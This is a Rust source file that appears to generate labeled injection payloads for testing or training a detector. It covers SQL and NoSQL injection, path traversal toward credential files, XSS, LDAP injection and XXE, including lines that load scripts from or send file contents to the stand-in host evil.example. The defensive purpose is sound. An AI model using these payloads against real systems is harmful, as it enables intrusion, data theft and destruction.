//! Attacks in our own wording, family by family.

use super::own::{fill, lines};
use super::own_commands;

/// Category, family, texts.
pub(crate) fn families() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let mut families = sql();
    families.extend(own_commands::families());
    families.extend(path());
    families.extend(script());
    families.extend(directory());
    families.extend(xml());
    families
}

fn sql() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let conditions = [
        "1=1",
        "2>1",
        "'x'='x",
        "\"x\"=\"x",
        "7 like 7",
        "(3)=(3)",
        "true",
        "1",
        "not false",
        "5 between 4 and 6",
    ];
    vec![
        (
            "sql",
            "logic",
            fill(
                &[
                    "' or @--",
                    "\" or @#",
                    "') or @ -- -",
                    "root' and @/*",
                    "x' || @ -- ",
                    "5) and @ #",
                ],
                &conditions,
            ),
        ),
        (
            "sql",
            "union",
            fill(
                &[
                    "0 union select @",
                    "-5' union all select @-- -",
                    "x') union select @#",
                    "3/**/union/**/select/**/@",
                    "9 UniOn SeLeCt @ from admins",
                    "\" union distinct select @;--",
                ],
                &[
                    "1,2,3",
                    "null,null",
                    "user(),version()",
                    "name,pass from accounts",
                    "0x61626364,2",
                    "@@version,1",
                    "group_concat(table_name),2 from information_schema.tables",
                    "char(65,66),3,4",
                ],
            ),
        ),
        (
            "sql",
            "stacked",
            fill(
                &["1; @", "'; @ --", "\"; @ #", "10); @--"],
                &[
                    "drop table orders",
                    "delete from logs",
                    "shutdown",
                    "exec xp_cmdshell('dir')",
                    "insert into admins values(1,'a')",
                    "update users set pass='x'",
                    "declare @v int",
                    "waitfor delay '0:0:9'",
                    "create user eve identified by 'p'",
                    "truncate table sales",
                    "select pg_sleep(9)",
                    "grant all to public",
                ],
            ),
        ),
        (
            "sql",
            "time",
            fill(
                &[
                    "1 and @",
                    "' or @='",
                    "\") or @ --",
                    "(select * from (select(@))x)",
                    "1;select @",
                    "if(1=1,@,0)",
                    "@#",
                ],
                &[
                    "sleep(9)",
                    "pg_sleep(8)",
                    "benchmark(90000,md5(7))",
                    "dbms_pipe.receive_message('q',9)",
                ],
            ),
        ),
        (
            "sql",
            "errors",
            fill(
                &["1 and @", "' and @ and '1'='1", "x\" or @-- ", "@"],
                &[
                    "extractvalue(1,concat(0x7e,version()))",
                    "updatexml(1,concat(0x3a,user()),1)",
                    "1=convert(int,db_name())",
                    "1=utl_inaddr.get_host_name((select user from dual))",
                    "exp(~(select*from(select user())a))",
                    "(select count(*) from sysobjects)>0",
                    "ascii(substring(database(),2,1))>80",
                    "json_keys((select convert((select version()) using utf8)))",
                ],
            ),
        ),
        (
            "sql",
            "clauses",
            lines(
                "1 order by 7--
1' group by 4 -- -
x' having 2=2--
-3 union
' union select
1 limit 1,1 into outfile '/tmp/o.php'
1 procedure analyse()
select load_file('/etc/hosts')
; begin declare @a varchar(90) set @a=':' end --
' into dumpfile '/var/www/x.php'#
name' like '%a%
admin'--
admin' #
guest')/*
x'||'y
a'+'b
b' - 'c
1'/1
'='
''='
' xor 1='1
z' is null or 'q'='q
1 div 1
q' rlike '.*
9 rlike (select 1)
w' regexp '^a
k' sounds like 'k
{\"user\": {\"$ne\": null}}
{\"$where\": \"this.age > 3\"}
pass[$regex]=.*
{\"name\": {\"$gt\": \"\"}}
{\"a\":{\"$ne\":1},\"b\":{\"$ne\":2}}
{\"id\": {\"$in\": [1,2]}}
{\"x\": {\"$regex\": \"^a\"}}
{\"$or\": [{\"a\": 1}, {\"b\": 2}]}
', $where: '1 == 1'
token[$exists]=true
login[$nin][]=x&pass[$ne]=y
user[$gt]=
username[$ne]=x&password[$ne]=y
DROP/**/TABLE/**/pets
exec master..xp_cmdshell 'whoami'
exec sp_executesql N'select 1'
union/*!50000select*/1,2
OR '{\"k\":1}' ?| array['k']
AND '[1]'::jsonb @> '1'
char(77)+char(78)
concat(0x41,(select user()))
in (select pass from users)
1 or exists(select 1 from dual)
x' and (select substr(pass,1,1) from users limit 1)='a
@@hostname
$$x$$ union select 1
((4)) and 4=4
pet and -3=-3
truncate(3) or 1",
            ),
        ),
    ]
}

fn path() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let files = [
        "etc/hosts",
        "etc/passwd",
        "windows/win.ini",
        "boot.ini",
        "proc/self/environ",
        "logs/error.log",
        "WEB-INF/web.xml",
    ];
    vec![
        (
            "path_traversal",
            "steps",
            fill(
                &[
                    "../../../@",
                    "/../../@",
                    "..\\..\\@",
                    "....//....//@",
                    "..//..//@",
                    "..\\/..\\/@",
                    ".../...//@",
                    "%2e%2e/%2e%2e/@",
                    "..%2f..%2f..%2f@",
                    "..%252f..%252f@",
                    "..%c0%af..%c0%af@",
                    "..%5c..%5c@",
                    "%c0%ae%c0%ae/@",
                    "0x2e0x2e0x2f@",
                    "..2f..2f@",
                    "/./././././@",
                    "..;/..;/@",
                    "/..\\../..\\../@",
                    "file=../../@",
                ],
                &files,
            ),
        ),
        (
            "path_traversal",
            "absolute",
            lines(
                "/etc/passwd
/etc/shadow
/proc/self/environ
C:\\boot.ini
C:\\Windows\\System32\\drivers\\etc\\hosts
c:/windows/win.ini
\\\\10.7.7.7\\share\\x
file:///etc/hosts
php://filter/convert.base64-encode/resource=index.php
expect://id
zip://a.zip#b
phar://a.phar/b
/root/.ssh/id_rsa
/etc/passwd%00.png
\\..\\
{FILE}
/{FILE}
../{FILE}",
            ),
        ),
    ]
}

fn script() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let calls = [
        "alert(7)",
        "prompt('a')",
        "confirm`1`",
        "eval(name)",
        "fetch('//evil.example')",
        "document.location='//evil.example'",
    ];
    vec![
        (
            "script",
            "tags",
            fill(
                &[
                    "<script>@</script>",
                    "\"><script>@</script>",
                    "</title><script>@</script>",
                    "<scr<script>ipt>@</script>",
                    "<svg onload=@>",
                    "<img src=q onerror=@>",
                    "'><img src=q onerror=@>",
                    "<body onpageshow=@>",
                    "<details open ontoggle=@>",
                    "<svg/onload=@>",
                    "<img/src=q/onerror=@>",
                    "<a href=javascript:@>go</a>",
                    "<iframe src=\"javascript:@\">",
                    "javascript:@",
                    "<input autofocus onfocus=@>",
                    "';@;//",
                    "\"-@-\"",
                    "');@//",
                    "\" onmouseover=@ x=\"",
                    "' onfocus='@' autofocus='",
                    "<math><mi xlink:href=\"javascript:@\">",
                    "<video><source onerror=@>",
                    "<object data=\"javascript:@\">",
                    "<form action=\"javascript:@\"><input type=submit>",
                    "<marquee onstart=@>",
                    "<x onclick=@>y",
                    "{{constructor.constructor('@')()}}",
                    "-->'\"<script>@</script>",
                    "<style>@import 'javascript:@';</style>",
                    "<!--><img src=1 onerror=@>",
                ],
                &calls,
            ),
        ),
        (
            "script",
            "loads",
            lines(
                "<script src=//evil.example/a.js></script>
<link rel=stylesheet href=//evil.example/a.css>
<iframe src=http://evil.example></iframe>
<embed src=//evil.example/a.swf>
<object data=a.swf></object>
<base href=//evil.example/>
<meta http-equiv=refresh content=\"0;url=javascript:1\">
<meta http-equiv=\"refresh\" content=\"1;url=data:text/html,x\">
<div style=\"width:expression(1)\">
<div style=\"background:url(javascript:1)\">
<x style=\"behavior:url(#default#time2)\">
<style>*{-moz-binding:url(//evil.example/x#y)}</style>
<?xml-stylesheet href=\"javascript:1\"?>
<svg><use xlink:href=data:image/svg+xml;base64,AA#x></svg>
<svg><animate attributeName=href values=javascript:1 />
<form><button formaction=javascript:1>x
<table background=\"javascript:1\">
<isindex action=javascript:1 type=image>
<xml src=\"x.xml\" id=q></xml>
<html xmlns:v=urn:schemas-microsoft-com:vml>
<textarea autofocus onfocus=1>
<keygen autofocus onfocus=1>
<bgsound src=\"javascript:1\">
<layer src=\"//evil.example\"></layer>
vbscript:msgbox(1)
data:text/html;base64,PHNjcmlwdD4=
data:text/html,<b>x
<a href=\"data:text/html,x\">x</a>
<img src=\"jav&#x09;ascript:1\">
<img dynsrc=\"javascript:1\">
<img \"\"\"><script>1</script>\">
<noscript><p title=\"</noscript><img src=x onerror=1>\">
String.fromCharCode(65,66)
document.write('<x>')
window['al'+'ert'](1)
top[/al/.source+/ert/.source](1)
[][(![]+[])[3]]
<% alert %>
\" onload=\"x
' onclick=x '
<b onmouseover=x>y
<plaintext>
<frameset onload=x>
<applet code=x>
<event-source src=x onload=1>",
            ),
        ),
    ]
}

fn directory() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let attributes = [
        "uid",
        "cn",
        "mail",
        "sn",
        "objectClass",
        "userPassword",
        "telephoneNumber",
        "description",
        "memberOf",
        "givenName",
        "department",
        "homeDirectory",
        "title",
        "gidNumber",
        "loginShell",
        "mobile",
        "employeeType",
    ];
    vec![
        (
            "ldap",
            "filters",
            fill(
                &[
                    "*)(@=*",
                    "*)(@=*))(|(@=*",
                    "admin)(@=a*",
                    "eve)(|(@=*",
                    "x*))(@=*",
                    "*)(|(@=*))",
                    "void)(@=y))(&(@=void)",
                    "(|(@=*))",
                    "(&(@=eve)(!(@=x)))",
                    "(@=*)",
                    "*)!(@=*",
                    "*)(!(@=b*",
                ],
                &attributes,
            ),
        ),
        (
            "ldap",
            "ends",
            lines(
                "*)(&\n*))%00\nadmin)(&)\nadmin)(!(&(1=0\n*|\n*(|(x=*))\n)(|\n*)\nx)(&\n*))(|\n)(cn=))\\x00\n*()|&'\n*)(uid=*))%00\nadmin*)((|userPassword=*)\n*)((|\n))(|(x=*",
            ),
        ),
    ]
}

fn xml() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let addresses = [
        "file:///etc/hosts",
        "http://evil.example/x.dtd",
        "php://filter/read=x/resource=y",
        "expect://id",
        "ftp://10.8.8.8/q",
        "notes.txt",
    ];
    vec![
        (
            "xxe",
            "entities",
            fill(
                &[
                    "<!DOCTYPE a [<!ENTITY b SYSTEM \"@\">]><a>&b;</a>",
                    "<?xml version=\"1.0\"?><!DOCTYPE q [ <!ENTITY % p SYSTEM \"@\"> %p; ]>",
                    "<!ENTITY x SYSTEM \"@\">",
                    "<!ENTITY % a \"<!ENTITY b SYSTEM '@'>\">",
                    "<!DOCTYPE r PUBLIC \"-//B/A/EN\" \"@\">",
                    "<?xml version='1.0'?><!DOCTYPE r SYSTEM '@'><r/>",
                    "<q xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"@\"/></q>",
                    "<svg><!DOCTYPE s [<!ENTITY e SYSTEM \"@\">]><text>&e;</text></svg>",
                ],
                &addresses,
            ),
        ),
        (
            "xxe",
            "others",
            lines(
                "<!DOCTYPE bomb [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><c>&b;</c>
<!DOCTYPE lol [
<!ENTITY lol \"lol\">
<!ELEMENT x ANY>
<?xml version=\"1.0\"?><a><![CDATA[<]]>script<![CDATA[>]]></a>
<a xsi:schemaLocation=\"x http://evil.example/x.xsd\"/>
%file;%dtd;
<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x.txt\"/></x>
<xi:include href=\"http://evil.example/\"/>
<a xmlns:xi=\"x\"><xi:include parse=\"text\" href=\"../x\"/></a>
<xsl:include href=\"http://evil.example/x.xsl\"/>
<!DOCTYPE html [<!ATTLIST img src CDATA \"x\">]>
<!ENTITY % all \"<!ENTITY send SYSTEM 'http://evil.example/?%file;'>\"> %all;",
            ),
        ),
    ]
}
